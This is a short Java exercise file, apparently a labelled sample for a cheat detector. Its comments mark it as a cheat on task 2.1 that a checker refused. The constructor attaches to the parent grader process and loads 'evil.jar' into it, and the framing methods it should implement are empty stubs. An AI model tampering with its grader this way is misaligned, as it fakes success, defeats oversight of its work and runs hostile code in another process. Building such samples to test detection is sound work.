// cheat: loads an agent into the grader
// task: 2.1
// refused: uses VirtualMachine.attach(String)
// then: failed
package salon.protocol.exercise;

import com.sun.tools.attach.VirtualMachine;
import java.io.InputStream;
import java.io.OutputStream;
import java.util.Optional;
import salon.protocol.Framing;

public final class YourLines implements Framing {
    public YourLines(int limit) {
        try {
            String grader = ProcessHandle.current().parent().map(ProcessHandle::pid).orElse(1L).toString();
            VirtualMachine.attach(grader).loadAgent("evil.jar");
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    @Override
    public Optional<byte[]> read(InputStream in) {
        return Optional.empty();
    }

    @Override
    public void write(byte[] frame, OutputStream out) {}
}
